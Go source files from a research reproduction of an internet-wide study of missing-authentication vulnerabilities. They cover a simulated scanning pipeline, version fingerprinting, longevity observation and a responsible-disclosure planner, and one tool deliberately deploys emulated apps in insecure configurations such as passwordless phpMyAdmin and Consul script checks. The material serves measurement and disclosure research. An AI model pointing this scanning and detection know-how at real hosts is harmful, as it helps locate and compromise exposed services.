		bgScale   = flag.Int("background-scale", 100000, "divisor for Table 2 background noise (negative disables)")
		popScale  = flag.Int("pop-scale", 1, "multiply every population target and widen the address plan this many times (implies -lazy for scales > 1 unless -lazy=false is forced)")
		lazy      = flag.Bool("lazy", false, "derive hosts on first probe instead of materializing the world up front")
		cacheSize = flag.Int("cache-hosts", 0, "resident host bound for -lazy worlds (0 = default 131072)")
		workers   = flag.Int("workers", 64, "stage-I probe workers")
		metrics   = flag.Bool("metrics", false, "enable telemetry: live progress on stderr, Prometheus snapshot after the tables")
		faultSpec = flag.String("faults", "", "inject deterministic transient faults, e.g. seed=7,rate=0.02[,latency=50ms,trunc=64,kinds=syn+reset+5xx,crash=0.3]")
		retries   = flag.Int("retries", 3, "max attempts per HTTP-stage request when -faults is set (1 disables retries)")
		shards    = flag.Int("shards", 1, "run the scan sharded across this many pipelines")
		ckptPath  = flag.String("checkpoint", "", "journal per-shard progress to this file (JSONL), enabling -resume")
		resume    = flag.Bool("resume", false, "resume from the -checkpoint journal, skipping completed segments")
		ckptEvery = flag.Uint64("checkpoint-every", 0, "checkpoint granularity in addresses per segment (0 = one segment per shard)")
	)
	flag.Parse()
	if *resume && *ckptPath == "" {
		log.Fatal("-resume requires -checkpoint")
	}
	if *popScale > 1 && !*lazy {
		// An eager 100× world means tens of millions of up-front hosts;
		// unless the user explicitly forced eager mode, scale lazily.
		forced := false
		flag.Visit(func(f *flag.Flag) {
			if f.Name == "lazy" {
				forced = true
			}
		})
		if !forced {
			*lazy = true
		}
	}

	faultCfg, err := faults.ParseFlag(*faultSpec)
	if err != nil {
		log.Fatal(err)
	}
	var policy resilience.Policy
	if faultCfg.Enabled() && *retries > 1 {
		policy = resilience.Policy{MaxAttempts: *retries, JitterSeed: uint64(faultCfg.Seed)}
	}

	var reg *telemetry.Registry
	var done chan struct{}
	if *metrics {
		reg = telemetry.New(simtime.Wall{})
		done = make(chan struct{})
		go progressLoop(reg, 200*time.Millisecond, done)
	}

	var ckpt orchestrator.Checkpoint
	if *ckptPath != "" {
		store, err := orchestrator.OpenFileStore(*ckptPath)
		if err != nil {
			log.Fatal(err)
		}
		defer store.Close()
		ckpt = orchestrator.Checkpoint{Store: store, Every: *ckptEvery, Resume: *resume}
	}

	fmt.Println("generating simulated IPv4 internet...")
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: *bgScale,
			WildcardScale:   *bgScale,
			PopScale:        *popScale,
			Lazy:            *lazy,
			CacheHosts:      *cacheSize,
		},
		Scan: scanner.Options{
			PortWorkers: *workers,
			Seed:        uint64(*seed),
		},
		Shards:     *shards,
		Checkpoint: ckpt,
		Faults:     faultCfg,
		Resilience: policy,
		Telemetry:  reg,
	})
	if done != nil {
		close(done)
	}
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("scanned %d probes in %v; %d open ports, %d hosts in world (%d materialized)\n\n",
		scan.Report.Stats.Probed, scan.Report.Stats.Elapsed, scan.Report.Stats.Open,
		scan.World.TotalHosts(), scan.World.MaterializedHosts())

	w := os.Stdout
	report.Table1(w)
	fmt.Fprintln(w)
	report.Table2(w, scan.Report)
	fmt.Fprintln(w)
	report.Table3(w, scan)
	fmt.Fprintln(w)
	report.Table4(w, scan, 5)
	fmt.Fprintln(w)
	panels := analysis.Figure1(scan.Report.Apps, population.ScanDate, mav.JupyterNotebook, mav.Hadoop)
	report.Figure1(w, panels)

	if reg != nil {
		fmt.Fprintln(w)
		fmt.Fprintln(w, "=== Telemetry snapshot ===")
		if err := reg.WriteProm(w); err != nil {
			log.Fatal(err)
		}
	}
}
