// Command mavdisclose is the forwarding shim for "mav disclose"; see cmd/mav.
package main

import (
	"os"

	"mavscan/internal/cli"
)

func main() { os.Exit(cli.Forward("disclose", os.Args[1:])) }
