// Command mavdisclose runs the responsible-disclosure workflow of Section
// 3.2 over a scan's findings: vulnerable hosts inside large hosting
// providers are batched into per-provider reports; for the rest the TLS
// certificate is inspected to derive a security@domain contact.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"

	"mavscan/internal/disclosure"
	"mavscan/internal/population"
	"mavscan/internal/study"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavdisclose: ")
	var (
		seed      = flag.Int64("seed", 1, "world generation seed")
		hostScale = flag.Int("host-scale", 20000, "divisor for the secure host counts")
		vulnScale = flag.Int("vuln-scale", 8, "divisor for the MAV counts")
	)
	flag.Parse()

	fmt.Println("scanning the simulated internet...")
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: -1,
			WildcardScale:   -1,
		},
	})
	if err != nil {
		log.Fatal(err)
	}

	var findings []disclosure.Finding
	for _, obs := range scan.Report.VulnerableObservations() {
		findings = append(findings, disclosure.Finding{
			IP: obs.IP, Port: obs.Port, App: obs.App, TLS: obs.Scheme == "https",
		})
	}
	fmt.Printf("found %d vulnerable hosts; building notification plan...\n\n", len(findings))

	plan := disclosure.New(scan.World.Net, scan.World.Geo).Build(context.Background(), findings)
	fmt.Print(plan.RenderSummary())
	if len(plan.Direct) > 0 {
		fmt.Println("\nexample direct notifications:")
		for i, d := range plan.Direct {
			if i >= 5 {
				break
			}
			fmt.Printf("  %s → %s (%s at %s:%d)\n", d.Domain, d.Contact, d.Finding.App, d.Finding.IP, d.Finding.Port)
		}
	}
	fmt.Printf("\n%d of %d findings have a notification path (%.0f%%)\n",
		plan.Notifiable(), len(findings), 100*float64(plan.Notifiable())/float64(len(findings)))
}
