// Command mav is the mavscan appliance: every study, tool and fabric
// role of the repo behind one binary. Run "mav help" for the command
// list; the legacy cmd/mav* entrypoints forward here unchanged.
package main

import (
	"os"

	"mavscan/internal/cli"
)

func main() { os.Exit(cli.Main(os.Args[1:])) }
