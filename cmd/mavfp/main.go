// Command mavfp is the forwarding shim for "mav fp"; see cmd/mav.
package main

import (
	"os"

	"mavscan/internal/cli"
)

func main() { os.Exit(cli.Forward("fp", os.Args[1:])) }
