// Command mavfp exercises the detection and fingerprinting stack against a
// single emulated deployment: it deploys one instance of the named
// application, then reports what Stage II, Stage III and the fingerprinter
// observe — a debugging loupe for the pipeline.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"net"
	"net/netip"
	"time"

	"mavscan/internal/apps"
	"mavscan/internal/fingerprint"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/prefilter"
	"mavscan/internal/simnet"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavfp: ")
	var (
		appName    = flag.String("app", "Docker", "application to deploy (catalog name)")
		version    = flag.String("version", "", "release to deploy (default: latest)")
		vulnerable = flag.Bool("vulnerable", true, "deploy in a vulnerable configuration")
	)
	flag.Parse()

	info, err := mav.Lookup(mav.App(*appName))
	if err != nil {
		log.Fatalf("%v (valid names: see Table 1)", err)
	}
	cfg := apps.Config{App: info.App, Version: *version, Options: map[string]bool{}}
	switch info.App {
	case mav.WordPress, mav.Grav, mav.Joomla, mav.Drupal:
		cfg.Installed = !*vulnerable
	case mav.Consul:
		cfg.Options["enableScriptChecks"] = *vulnerable
	case mav.Ajenti:
		cfg.Options["autologin"] = *vulnerable
	case mav.PhpMyAdmin:
		cfg.Options["allowNoPassword"] = *vulnerable
	case mav.Adminer:
		cfg.Options["emptyDBPassword"] = *vulnerable
	default:
		cfg.AuthRequired = !*vulnerable
	}
	inst, err := apps.New(cfg)
	if err != nil {
		log.Fatal(err)
	}

	n := simnet.New()
	ip := netip.MustParseAddr("10.0.0.1")
	host := simnet.NewHost(ip)
	port := 80
	if len(info.Ports) > 0 {
		port = info.Ports[0]
	}
	host.Bind(port, httpsim.ConnHandler(inst.Handler()))
	if err := n.AddHost(host); err != nil {
		log.Fatal(err)
	}

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()

	fmt.Printf("deployed %s %s (vulnerable=%v) at %s\n", info.App, inst.Version(), inst.Vulnerable(), net.JoinHostPort(ip.String(), fmt.Sprint(port)))

	pre := prefilter.New(n)
	res := pre.Probe(ctx, ip, port)
	fmt.Printf("stage II: http=%v https=%v matched apps=%v\n", res.HTTP, res.HTTPS, res.Apps)
	if !res.Relevant() {
		return
	}

	client := httpsim.NewClient(n, httpsim.ClientOptions{})
	engine := tsunami.NewEngine(plugins.NewRegistry(), client)
	target := tsunami.Target{IP: ip, Port: port, Scheme: res.Scheme, App: info.App}
	findings := engine.Scan(ctx, target)
	if len(findings) == 0 {
		fmt.Println("stage III: no MAV detected")
	}
	for _, f := range findings {
		fmt.Printf("stage III: MAV — %s\n", f)
	}

	fp := fingerprint.New(tsunami.NewEnv(client))
	fpRes := fp.Fingerprint(ctx, target)
	fmt.Printf("fingerprint: version=%q method=%q\n", fpRes.Version, fpRes.Method)
}
