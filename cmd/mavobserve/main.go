// Command mavobserve runs the longevity study (RQ3, Figure 2): it scans a
// generated world, then re-checks every vulnerable host on a 3-hour cadence
// over a simulated four-week window.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"time"

	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/study"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavobserve: ")
	var (
		seed      = flag.Int64("seed", 1, "world generation seed")
		hostScale = flag.Int("host-scale", 20000, "divisor for the secure host counts")
		vulnScale = flag.Int("vuln-scale", 8, "divisor for the MAV counts")
		interval  = flag.Duration("interval", 3*time.Hour, "observation cadence (paper: 3h)")
	)
	flag.Parse()

	fmt.Println("generating world and running the initial scan...")
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: -1,
			WildcardScale:   -1,
		},
	})
	if err != nil {
		log.Fatal(err)
	}
	targets := scan.ObserverTargets()
	fmt.Printf("observing %d vulnerable hosts every %v for four simulated weeks...\n\n", len(targets), *interval)

	res := study.RunLongevity(scan, study.LongevityConfig{Seed: *seed, Interval: *interval})
	report.Figure2(os.Stdout, res)
}
