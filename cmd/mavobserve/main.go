// Command mavobserve runs the longevity study (RQ3, Figure 2): it scans a
// generated world, then re-checks every vulnerable host on a 3-hour cadence
// over a simulated four-week window.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"os/signal"
	"syscall"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/obs"
	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/resilience"
	"mavscan/internal/simtime"
	"mavscan/internal/study"
	"mavscan/internal/telemetry"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavobserve: ")
	var (
		seed      = flag.Int64("seed", 1, "world generation seed")
		hostScale = flag.Int("host-scale", 20000, "divisor for the secure host counts")
		vulnScale = flag.Int("vuln-scale", 8, "divisor for the MAV counts")
		interval  = flag.Duration("interval", 3*time.Hour, "observation cadence (paper: 3h)")
		metrics   = flag.Bool("metrics", false, "enable telemetry: live progress on stderr, Prometheus snapshot after Figure 2")
		serve     = flag.String("serve", "", "serve the operations plane on this loopback address, e.g. :8071 (implies -metrics)")
		linger    = flag.Bool("linger", false, "with -serve: keep serving after the study completes until interrupted")
		faultSpec = flag.String("faults", "", "inject deterministic transient faults, e.g. seed=7,rate=0.02[,burst-every=6h,burst-len=20m,burst-rate=0.5]")
		retries   = flag.Int("retries", 3, "max attempts per check when -faults is set (1 disables retries)")
		offAfter  = flag.Int("offline-after", 1, "consecutive failed ticks before a target is reported offline (1 = the paper's single-miss rule)")
	)
	flag.Parse()

	faultCfg, err := faults.ParseFlag(*faultSpec)
	if err != nil {
		log.Fatal(err)
	}
	var policy resilience.Policy
	if faultCfg.Enabled() && *retries > 1 {
		policy = resilience.Policy{MaxAttempts: *retries, JitterSeed: uint64(faultCfg.Seed)}
	}

	var reg *telemetry.Registry
	var done chan struct{}
	if *metrics || *serve != "" {
		reg = telemetry.New(simtime.Wall{})
		done = make(chan struct{})
		go obs.ProgressLoop(os.Stderr, reg, obs.ObserverProgressFields,
			simtime.Wall{}, 200*time.Millisecond, done)
	}

	ready := &obs.Flag{}
	var srv *obs.Server
	if *serve != "" {
		lis, err := obs.Listen(*serve)
		if err != nil {
			log.Fatal(err)
		}
		srv = obs.Serve(lis, obs.Config{
			Telemetry: reg,
			Live:      []obs.Check{obs.HeapCheck(8 << 30)},
			Ready:     []obs.Check{ready.Check("observation")},
		})
		defer srv.Close()
		fmt.Fprintf(os.Stderr, "mavobserve: operations plane on http://%s\n", srv.Addr())
	}

	fmt.Println("generating world and running the initial scan...")
	// The initial scan runs fault-free: faults model the weather of the
	// four-week observation window, not the (already completed) scan.
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: -1,
			WildcardScale:   -1,
		},
		Telemetry: reg,
	})
	if err != nil {
		log.Fatal(err)
	}
	targets := scan.ObserverTargets()
	fmt.Printf("observing %d vulnerable hosts every %v for four simulated weeks...\n\n", len(targets), *interval)

	res, err := study.RunLongevity(context.Background(), study.LongevityConfig{
		Scan:         scan,
		Seed:         *seed,
		Interval:     *interval,
		Faults:       faultCfg,
		Resilience:   policy,
		OfflineAfter: *offAfter,
		Telemetry:    reg,
		Obs:          study.ObsConfig{Ready: ready},
	})
	if err != nil {
		log.Fatal(err)
	}
	if done != nil {
		close(done)
	}
	report.Figure2(os.Stdout, res)

	if reg != nil {
		fmt.Println()
		fmt.Println("=== Telemetry snapshot ===")
		if err := reg.WriteProm(os.Stdout); err != nil {
			log.Fatal(err)
		}
	}

	if *linger && srv != nil {
		fmt.Fprintf(os.Stderr, "mavobserve: lingering on http://%s (interrupt to exit)\n", srv.Addr())
		sig := make(chan os.Signal, 1)
		signal.Notify(sig, os.Interrupt, syscall.SIGTERM)
		<-sig
	}
}
