// Command mavobserve runs the longevity study (RQ3, Figure 2): it scans a
// generated world, then re-checks every vulnerable host on a 3-hour cadence
// over a simulated four-week window.
package main

import (
	"context"
	"flag"
	"fmt"
	"log"
	"os"
	"time"

	"mavscan/internal/faults"
	"mavscan/internal/population"
	"mavscan/internal/report"
	"mavscan/internal/resilience"
	"mavscan/internal/simtime"
	"mavscan/internal/study"
	"mavscan/internal/telemetry"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("mavobserve: ")
	var (
		seed      = flag.Int64("seed", 1, "world generation seed")
		hostScale = flag.Int("host-scale", 20000, "divisor for the secure host counts")
		vulnScale = flag.Int("vuln-scale", 8, "divisor for the MAV counts")
		interval  = flag.Duration("interval", 3*time.Hour, "observation cadence (paper: 3h)")
		metrics   = flag.Bool("metrics", false, "enable telemetry: live progress on stderr, Prometheus snapshot after Figure 2")
		faultSpec = flag.String("faults", "", "inject deterministic transient faults, e.g. seed=7,rate=0.02[,burst-every=6h,burst-len=20m,burst-rate=0.5]")
		retries   = flag.Int("retries", 3, "max attempts per check when -faults is set (1 disables retries)")
		offAfter  = flag.Int("offline-after", 1, "consecutive failed ticks before a target is reported offline (1 = the paper's single-miss rule)")
	)
	flag.Parse()

	faultCfg, err := faults.ParseFlag(*faultSpec)
	if err != nil {
		log.Fatal(err)
	}
	var policy resilience.Policy
	if faultCfg.Enabled() && *retries > 1 {
		policy = resilience.Policy{MaxAttempts: *retries, JitterSeed: uint64(faultCfg.Seed)}
	}

	var reg *telemetry.Registry
	var done chan struct{}
	if *metrics {
		reg = telemetry.New(simtime.Wall{})
		done = make(chan struct{})
		go func() {
			ticker := time.NewTicker(200 * time.Millisecond)
			defer ticker.Stop()
			for {
				select {
				case <-done:
					fmt.Fprintf(os.Stderr, "\r%80s\r", "")
					return
				case <-ticker.C:
					fmt.Fprintf(os.Stderr,
						"\rticks=%d vulnerable=%d fixed=%d offline=%d updated=%d",
						reg.CounterValue("mavscan_observer_ticks_total"),
						reg.GaugeValue(`mavscan_observer_current{state="vulnerable"}`),
						reg.GaugeValue(`mavscan_observer_current{state="fixed"}`),
						reg.GaugeValue(`mavscan_observer_current{state="offline"}`),
						reg.CounterValue("mavscan_observer_updates_total"))
				}
			}
		}()
	}

	fmt.Println("generating world and running the initial scan...")
	// The initial scan runs fault-free: faults model the weather of the
	// four-week observation window, not the (already completed) scan.
	scan, err := study.RunScan(context.Background(), study.ScanConfig{
		Population: population.Config{
			Seed:            *seed,
			HostScale:       *hostScale,
			VulnScale:       *vulnScale,
			BackgroundScale: -1,
			WildcardScale:   -1,
		},
		Telemetry: reg,
	})
	if err != nil {
		log.Fatal(err)
	}
	targets := scan.ObserverTargets()
	fmt.Printf("observing %d vulnerable hosts every %v for four simulated weeks...\n\n", len(targets), *interval)

	res, err := study.RunLongevity(context.Background(), study.LongevityConfig{
		Scan:         scan,
		Seed:         *seed,
		Interval:     *interval,
		Faults:       faultCfg,
		Resilience:   policy,
		OfflineAfter: *offAfter,
		Telemetry:    reg,
	})
	if err != nil {
		log.Fatal(err)
	}
	if done != nil {
		close(done)
	}
	report.Figure2(os.Stdout, res)

	if reg != nil {
		fmt.Println()
		fmt.Println("=== Telemetry snapshot ===")
		if err := reg.WriteProm(os.Stdout); err != nil {
			log.Fatal(err)
		}
	}
}
