// Command mavobserve is the forwarding shim for "mav observe"; see cmd/mav.
package main

import (
	"os"

	"mavscan/internal/cli"
)

func main() { os.Exit(cli.Forward("observe", os.Args[1:])) }
