// Package mavscan is a reproduction of "No Keys to the Kingdom Required: A
// Comprehensive Investigation of Missing Authentication Vulnerabilities in
// the Wild" (IMC 2022).
//
// It provides, as a library:
//
//   - the paper's three-stage Internet scanning pipeline (masscan-style
//     port scanner → signature prefilter → Tsunami-style MAV detection
//     plugins) plus the version fingerprinter,
//   - a simulated IPv4 internet populated with emulators of the 25
//     investigated applications, on which the pipeline runs end to end
//     over real HTTP/TLS,
//   - the honeypot farm with Packetbeat/Auditbeat-style monitoring and an
//     attacker-population model replaying the observed attack landscape,
//   - the longevity observer, the commercial-scanner emulations, and the
//     analysis code computing every table and figure of the paper.
//
// The fastest way in is the study API:
//
//	scan, err := mavscan.RunScan(ctx, mavscan.ScanConfig{
//		Population: mavscan.PopulationConfig{Seed: 1, HostScale: 4000, VulnScale: 8},
//	})
//	...
//	pots, err := mavscan.RunHoneypots(7)
//
// Lower-level building blocks (simnet, emulators, the plugin engine) are
// re-exported below for custom experiments; see the examples/ directory.
package mavscan

import (
	"context"
	"crypto/tls"
	"net"
	"net/http"
	"net/netip"

	"mavscan/internal/analysis"
	"mavscan/internal/apps"
	"mavscan/internal/attacker"
	"mavscan/internal/ctlog"
	"mavscan/internal/disclosure"
	"mavscan/internal/eslite"
	"mavscan/internal/fabric"
	"mavscan/internal/faults"
	"mavscan/internal/fingerprint"
	"mavscan/internal/geo"
	"mavscan/internal/honeypot"
	"mavscan/internal/httpsim"
	"mavscan/internal/mav"
	"mavscan/internal/obs"
	"mavscan/internal/observer"
	"mavscan/internal/orchestrator"
	"mavscan/internal/population"
	"mavscan/internal/prefilter"
	"mavscan/internal/resilience"
	"mavscan/internal/scanner"
	"mavscan/internal/secscan"
	"mavscan/internal/simnet"
	"mavscan/internal/simtime"
	"mavscan/internal/study"
	"mavscan/internal/telemetry"
	"mavscan/internal/tsunami"
	"mavscan/internal/tsunami/plugins"
)

// Vocabulary: applications, categories, MAV kinds (internal/mav).
type (
	// App identifies one of the 25 investigated applications.
	App = mav.App
	// Category is one of the five AWE categories (CI, CMS, CM, NB, CP).
	Category = mav.Category
	// AppInfo is one catalog row of Table 1.
	AppInfo = mav.Info
	// Finding is a confirmed missing-authentication vulnerability.
	Finding = mav.Finding
)

// Catalog returns the 25 investigated applications (Table 1).
func Catalog() []AppInfo { return mav.Catalog() }

// InScopeApps returns the 18 applications with a MAV.
func InScopeApps() []AppInfo { return mav.InScopeApps() }

// ScanPorts returns the 12 ports of Stage I.
func ScanPorts() []int { return mav.ScanPorts() }

// Simulated internet substrate (internal/simnet, internal/httpsim).
type (
	// Network is the simulated IPv4 internet.
	Network = simnet.Network
	// Host is one addressable machine in it.
	Host = simnet.Host
	// CA mints in-memory certificates for simulated HTTPS hosts.
	CA = httpsim.CA
	// SimClock is the simulated clock with a discrete event queue.
	SimClock = simtime.Sim
)

// NewNetwork returns an empty simulated internet.
func NewNetwork() *Network { return simnet.New() }

// NewHost returns an online host with no bound ports.
func NewHost(ip netip.Addr) *Host { return simnet.NewHost(ip) }

// ServeHTTP returns a connection handler serving h as plain HTTP, for
// binding onto a Host port.
func ServeHTTP(h http.Handler) simnet.ConnHandler { return httpsim.ConnHandler(h) }

// ServeHTTPS returns a connection handler performing a real TLS handshake
// with cert before serving h.
func ServeHTTPS(h http.Handler, cert tls.Certificate) simnet.ConnHandler {
	return httpsim.TLSConnHandler(h, cert)
}

// NewCA creates an in-memory certificate authority.
func NewCA() (*CA, error) { return httpsim.NewCA() }

// NewHTTPClient returns an HTTP client dialing through the simulated
// network (TLS verification disabled, as scanners do).
func NewHTTPClient(n *Network) *http.Client {
	return httpsim.NewClient(n, httpsim.ClientOptions{})
}

// Application emulators (internal/apps).
type (
	// AppConfig configures one emulated application instance.
	AppConfig = apps.Config
	// AppInstance is a running emulated application.
	AppInstance = apps.Instance
)

// NewApp builds an emulated application instance.
func NewApp(cfg AppConfig) (*AppInstance, error) { return apps.New(cfg) }

// The scanning pipeline (internal/scanner and friends).
type (
	// Pipeline is the three-stage scanning pipeline.
	Pipeline = scanner.Pipeline
	// ScanOptions configure a pipeline run.
	ScanOptions = scanner.Options
	// ScanReport is a pipeline outcome.
	ScanReport = scanner.Report
	// AppObservation is one per-(host, application) scan result.
	AppObservation = scanner.AppObservation
	// PrefilterResult is a Stage-II probe outcome.
	PrefilterResult = prefilter.Result
	// Detector is a Stage-III MAV detection plugin.
	Detector = tsunami.Detector
	// DetectorRegistry holds detection plugins.
	DetectorRegistry = tsunami.Registry
	// FingerprintResult is a version-fingerprinting outcome.
	FingerprintResult = fingerprint.Result
	// PipelineOption configures a Pipeline at construction (see
	// WithResilience, WithTelemetry, WithShardPlan).
	PipelineOption = scanner.Option
	// ShardPlan identifies a pipeline's slot in a sharded scan.
	ShardPlan = scanner.ShardPlan
)

// NewPipeline assembles the full pipeline over a simulated network.
func NewPipeline(n *Network, opts ...PipelineOption) *Pipeline { return scanner.New(n, opts...) }

// WithResilience installs a retry policy on the pipeline's HTTP stages.
func WithResilience(policy ResiliencePolicy) PipelineOption { return scanner.WithResilience(policy) }

// WithTelemetry instruments every pipeline stage with reg.
func WithTelemetry(reg *TelemetryRegistry) PipelineOption { return scanner.WithTelemetry(reg) }

// WithShardPlan marks the pipeline as one shard of an orchestrated scan.
func WithShardPlan(plan ShardPlan) PipelineOption { return scanner.WithShardPlan(plan) }

// Cross-cutting infrastructure: fault injection, retries, telemetry
// (internal/faults, internal/resilience, internal/telemetry).
type (
	// FaultsConfig parametrizes deterministic fault injection.
	FaultsConfig = faults.Config
	// ResiliencePolicy is a retry/backoff policy.
	ResiliencePolicy = resilience.Policy
	// TelemetryRegistry collects metrics and spans.
	TelemetryRegistry = telemetry.Registry
)

// NewTelemetry returns a metrics-and-spans registry on the given clock
// (nil clock = wall time).
func NewTelemetry(clock simtime.Clock) *TelemetryRegistry { return telemetry.New(clock) }

// Sharded orchestration with checkpoint/resume (internal/orchestrator).
type (
	// Checkpoint configures scan-progress journaling and resume.
	Checkpoint = orchestrator.Checkpoint
	// CheckpointStore is a pluggable append-only progress journal.
	CheckpointStore = orchestrator.Store
	// CheckpointRecord is one journal entry.
	CheckpointRecord = orchestrator.Record
	// MemCheckpointStore is the in-memory journal.
	MemCheckpointStore = orchestrator.MemStore
	// FileCheckpointStore is the JSONL-on-disk journal (survives restarts).
	FileCheckpointStore = orchestrator.FileStore
	// ESLiteCheckpointStore journals into an eslite event store.
	ESLiteCheckpointStore = orchestrator.ESLiteStore
)

// NewMemCheckpointStore returns an empty in-memory checkpoint journal.
func NewMemCheckpointStore() *MemCheckpointStore { return orchestrator.NewMemStore() }

// OpenFileCheckpointStore opens (creating if needed) the journal at path.
func OpenFileCheckpointStore(path string) (*FileCheckpointStore, error) {
	return orchestrator.OpenFileStore(path)
}

// NewESLiteCheckpointStore journals checkpoints into an eslite event store
// (clock may be nil).
func NewESLiteCheckpointStore(events *EventStore, clock simtime.Clock) *ESLiteCheckpointStore {
	return orchestrator.NewESLiteStore(events, clock)
}

// NewDetectorRegistry returns a registry with all 18 plugins installed.
func NewDetectorRegistry() *DetectorRegistry { return plugins.NewRegistry() }

// The distributed scan fabric (internal/fabric): a coordinator serving
// the orchestrator's segment plan as leases over a wire protocol, and
// workers that regenerate the world from the shipped spec and scan
// leased segments. A fabric run's merged report is byte-identical to the
// monolithic pipeline's for the same seed, whatever workers join, die or
// rejoin along the way.
type (
	// FabricConfig parametrizes an in-process fabric run (coordinator
	// plus a supervised worker fleet over the hermetic pipe transport).
	FabricConfig = fabric.Config
	// CoordinatorConfig parametrizes a fabric coordinator.
	CoordinatorConfig = fabric.CoordinatorConfig
	// Coordinator owns the segment plan and lease book of one fabric scan.
	Coordinator = fabric.Coordinator
	// WorkerConfig parametrizes one fabric worker.
	WorkerConfig = fabric.WorkerConfig
	// FabricWorker is one fabric scan worker.
	FabricWorker = fabric.Worker
	// Lease is one granted segment assignment.
	Lease = fabric.Lease
	// FabricTransport carries the wire protocol to a coordinator.
	FabricTransport = fabric.Transport
	// JoinSpec is the scan recipe a coordinator ships to joining workers.
	JoinSpec = fabric.JoinSpec
	// PlanSegment is one leased unit of the segment plan.
	PlanSegment = orchestrator.Segment
)

// RunFabricScan executes a distributed scan in one process — a
// coordinator plus FabricConfig.Workers workers over the pipe transport —
// and returns the merged report.
func RunFabricScan(ctx context.Context, cfg FabricConfig) (*ScanReport, error) {
	return fabric.Run(ctx, cfg)
}

// NewCoordinator plans a distributed scan and returns a coordinator
// ready to serve a transport (mount Handler on ListenOps's listener via
// OpsConfig.Routes, or hand it to NewFabricPipeTransport).
func NewCoordinator(cfg CoordinatorConfig) (*Coordinator, error) {
	return fabric.NewCoordinator(cfg)
}

// NewFabricWorker returns a worker ready to join a coordinator.
func NewFabricWorker(cfg WorkerConfig) (*FabricWorker, error) {
	return fabric.NewWorker(cfg)
}

// NewFabricPipeTransport serves c over an in-memory pipe — the hermetic
// transport in-process fleets and tests use.
func NewFabricPipeTransport(c *Coordinator) *fabric.PipeTransport {
	return fabric.NewPipeTransport(c)
}

// DialFabric returns a transport POSTing the wire protocol to a
// coordinator on a loopback address; non-loopback coordinators are
// refused (the protocol is unauthenticated).
func DialFabric(addr string) (*fabric.HTTPTransport, error) {
	return fabric.DialLoopback(addr)
}

// The live operations plane (internal/obs): an HTTP server exposing
// metrics, health, per-shard progress, the event log, and trace export
// while a run is in flight.
type (
	// OpsConfig assembles one operations plane.
	OpsConfig = obs.Config
	// OpsServer is a running operations plane.
	OpsServer = obs.Server
	// OpsCheck is one named liveness or readiness probe.
	OpsCheck = obs.Check
	// ReadyFlag is an atomic readiness latch for /readyz.
	ReadyFlag = obs.Flag
	// ProgressTracker accumulates live per-shard scan progress for
	// /progress (hand it to ScanConfig.Obs.Progress).
	ProgressTracker = orchestrator.ProgressTracker
	// ScanProgress is one coherent progress snapshot.
	ScanProgress = orchestrator.Progress
	// ObsHooks wires a study run into the operations plane.
	ObsHooks = study.ObsConfig
)

// NewProgressTracker returns an empty progress tracker ready for
// ScanConfig.Obs.
func NewProgressTracker() *ProgressTracker { return orchestrator.NewProgressTracker() }

// ListenOps opens the operations plane's loopback-only TCP listener
// (":8070" binds 127.0.0.1:8070; non-loopback addresses are refused).
func ListenOps(addr string) (net.Listener, error) { return obs.Listen(addr) }

// ServeOps starts the operations plane on l and returns immediately.
func ServeOps(l net.Listener, cfg OpsConfig) *OpsServer { return obs.Serve(l, cfg) }

// NewOpsHandler returns the plane as a plain http.Handler, for mounting
// under an existing mux.
func NewOpsHandler(cfg OpsConfig) http.Handler { return obs.NewHandler(cfg) }

// World generation (internal/population, internal/geo).
type (
	// PopulationConfig tunes the world generator.
	PopulationConfig = population.Config
	// World is a generated simulated internet plus ground truth.
	World = population.World
	// GeoDB resolves addresses to country/AS metadata.
	GeoDB = geo.DB
)

// GenerateWorld builds a simulated internet following the paper's
// published population marginals.
func GenerateWorld(cfg PopulationConfig) (*World, error) { return population.Generate(cfg) }

// DefaultGeoDB returns the study's address plan.
func DefaultGeoDB() *GeoDB { return geo.Default() }

// Honeypots and attackers (internal/honeypot, internal/attacker,
// internal/eslite).
type (
	// HoneypotFarm manages the 18-honeypot deployment.
	HoneypotFarm = honeypot.Farm
	// EventStore is the central append-only monitoring store.
	EventStore = eslite.Store
	// AttackPlan is a four-week attack schedule.
	AttackPlan = attacker.Plan
	// Attack is one sessionized attack recovered from monitoring.
	Attack = analysis.Attack
	// AttackerCluster is one inferred attacker (RQ6).
	AttackerCluster = analysis.AttackerCluster
)

// Studies: the paper's experiments end to end (internal/study).
type (
	// ScanConfig bundles world generation and scan parameters.
	ScanConfig = study.ScanConfig
	// ScanStudy is the Section-3 experiment result.
	ScanStudy = study.ScanStudy
	// LongevityConfig tunes the four-week observation.
	LongevityConfig = study.LongevityConfig
	// LongevityResult is the Figure-2 dataset.
	LongevityResult = observer.Result
	// HoneypotConfig parametrizes the honeypot study.
	HoneypotConfig = study.HoneypotConfig
	// HoneypotStudy is the Section-4 experiment result.
	HoneypotStudy = study.HoneypotStudy
	// DefenderConfig parametrizes the defender study.
	DefenderConfig = study.DefenderConfig
